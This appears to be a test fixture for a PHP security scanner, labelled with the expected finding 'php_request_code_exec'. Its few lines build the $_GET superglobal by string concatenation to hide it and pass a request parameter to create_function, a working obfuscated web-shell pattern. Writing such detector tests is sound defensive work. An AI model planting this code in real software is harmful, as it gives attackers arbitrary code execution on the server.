<?php
// want: php_request_code_exec
$x = $GLOBALS['_' . 'GET'];
create_function('', $x['b']);
